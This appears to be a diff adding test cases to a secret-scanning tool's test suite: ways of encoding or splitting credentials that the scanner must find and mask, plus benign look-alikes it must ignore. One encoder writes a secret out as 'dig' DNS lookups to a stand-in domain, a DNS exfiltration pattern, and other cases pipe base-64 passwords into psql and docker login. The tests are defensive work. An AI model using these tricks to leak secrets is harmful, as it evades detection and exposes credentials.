@@ -124,6 +124,12 @@ const forms: readonly (readonly [string, (secret: string) => string])[] = [
   ["an archive in base-64", (s) => zipped(`TOKEN=${s}\n`).toString("base64")],
   ["coloured source text", (s) => `<span class="a">${cut(s, 9).join('</span><span class="b">')}</span>`],
   ["bold pieces", (s) => cut(s, 9).join("**")],
+  ["lookups of host names", (s) => cut(Buffer.from(s).toString("hex"), 24).map((l, at) => `dig +short ${at}.${l}.z9.lookups.example`).join("\n")],
+  ["a list of base-64 pieces", (s) => JSON.stringify({ chunks: cut(btoa(`the token of the build is ${s}`), 24) })],
+  ["parts of a sentence", (s) => `Take ${cut(s, 12)[0]}, then append ${cut(s, 12).slice(1).join(", then ")} at the end`],
+  ["its lead apart", (s) => `+ echo ${s.replace(/^(.*?[_-]|AKIA)/, "$1 ")}`],
+  ["characters with their places", (s) => JSON.stringify(Object.fromEntries([...s].map((sign, at) => [at, sign])))],
+  ["pairs of places and characters", (s) => `[${[...s].map((sign, at) => `(${at}, '${sign}')`).join(", ")}]`],
   ["three digits each", (s) => bytes(s).map((b) => String(b).padStart(3, "0")).join("")],
   ["bits without gaps", (s) => bytes(s).map((b) => b.toString(2).padStart(8, "0")).join("")],
   ["line breaks of HTML", (s) => cut(s, 5).join("<br>")],
@@ -148,6 +154,22 @@ describe("M03 a credential that is written as", () => {
   });
 });
 
+describe("M03 a password that is unpacked where it is used", () => {
+  const password = ["Maple", "6166", "#", "Sunset"].join("");
+
+  test.each([
+    ["for a variable", `PGPASSWORD=$(echo ${btoa(password)} | base64 -d) psql -h db -U app`],
+    [
+      "for a login",
+      `echo '${btoa(password)}' | base64 --decode | docker login -u bot --password-stdin`,
+    ],
+    ["in LDIF", `dn: uid=ada,dc=acme\nuserPassword:: ${btoa(password)}\n`],
+  ])("%s is found and masked", (_where, text) => {
+    expect(scanText(text).matches).toHaveLength(1);
+    expect(maskText(text)).not.toContain(btoa(password));
+  });
+});
+
 describe("M03 quiet on listings and encodings", () => {
   test.each([
     ["a listing of a program", "00000000: 7f45 4c46 0201 0100 0000 0000 0000 0000  .ELF............\n00000010: 0300 3e00 0100 0000 a08c 0000 0000 0000  ..>............."],
@@ -158,6 +180,10 @@ describe("M03 quiet on listings and encodings", () => {
     ["a manual of tr", "tr A-Za-z N-ZA-Mn-za-m < quotes.txt # rot13, the cipher of old newsgroups: uryyb jbeyq"],
     ["a numbered list of letters", [..."abcdefghijklmnopqrstuvwxyz"].map((sign, at) => `${at + 1}. ${sign}`).join("\n")],
     ["a table of characters", Array.from({ length: 94 }, (_, at) => `${String.fromCharCode(at + 33)} -> ${at + 33}`).join("\n")],
+    ["a name for people in LDIF", `dn: uid=ada,dc=acme\ncn:: ${btoa("Ada Lovelace")}\nuserPassword: {CRYPT}x\n`],
+    ["a message that is unpacked", `echo ${btoa("Deployment finished!")} | base64 -d`],
+    ["a lead in a sentence", "A key starts with glpat- and then follows the id, for example v2beta1 or run20240229 in the second part."],
+    ["a menu of letters", JSON.stringify(Object.fromEntries([..."abcdefghijklmnopqrst"].map((sign, at) => [`k${at}`, sign])))],
     ["colours of a log", "\x1b[32mINFO\x1b[0m \x1b[1mserver\x1b[0m is ready on port 8080"],
   ])("%s", (_what, text) => {
     expect(scanText(text)).toEqual({ matches: [], unscannable: null });
